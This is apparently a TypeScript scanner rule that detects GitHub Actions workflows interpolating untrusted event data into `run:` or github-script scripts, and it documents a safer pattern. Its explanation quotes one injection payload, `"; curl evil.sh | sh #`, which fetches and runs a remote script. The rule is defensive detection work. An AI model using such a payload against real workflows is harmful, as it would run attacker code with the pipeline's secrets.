import type { Rule, RuleContext } from '../types';
import { ATTACKER_CONTROLLED, EVENT_DATA, expressionsIn, isWorkflowPath, scalarSpan, workflowOf } from './githubWorkflow';
import { quote } from './support';

/** `${{ github.event.* }}` pasted into a `run:` script (or an actions/github-script `script:`). */
export const workflowScriptInjection: Rule = {
  patterns: [ATTACKER_CONTROLLED, EVENT_DATA],
  meta: {
    id: 'files/workflow-script-injection',
    category: 'sensitive-file',
    severity: 'high',
    confidence: 'high',
    cwe: [78, 94],
    keywords: ['github.event', 'github.head_ref'],
    docs: {
      summary: 'Event data interpolated into a workflow script',
      why: 'GitHub pastes `${{ … }}` into the script before the shell sees it, so a pull request title or issue comment such as `"; curl evil.sh | sh #` becomes code that runs with the workflow\'s token and secrets.',
      fix: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script; never interpolate event data into `run:` or `script:`.',
      example: { bad: 'run: echo "${{ github.event.issue.title }}"', good: 'env:\n  TITLE: ${{ github.event.issue.title }}\nrun: echo "$TITLE"' },
    },
    messages: {
      untrusted: 'Attacker-controlled `${{ {{expression}} }}` is pasted into a workflow script: script injection',
      eventData: 'Event data `${{ {{expression}} }}` is pasted into a workflow script',
    },
  },
  appliesToPath: isWorkflowPath,
  check(context: RuleContext) {
    const model = workflowOf(context);
    if (!model) return;
    for (const job of model.jobs) {
      for (const step of job.steps) {
        const scripts = [step.run, /^actions\/github-script@/i.test(String(step.uses?.value ?? '')) ? step.with.get('script') : undefined];
        for (const script of scripts) {
          if (!script?.range) continue;
          const { start, end } = scalarSpan(script);
          for (const expression of expressionsIn(context.text, start, end)) {
            if (!EVENT_DATA.test(expression.body)) continue;
            const untrusted = ATTACKER_CONTROLLED.test(expression.body);
            context.report({
              messageId: untrusted ? 'untrusted' : 'eventData',
              data: { expression: quote(expression.body, 80) },
              start: expression.start,
              end: expression.end,
              severity: untrusted ? 'high' : 'medium',
              confidence: untrusted ? 'high' : 'medium',
            });
          }
        }
      }
    }
  },
};
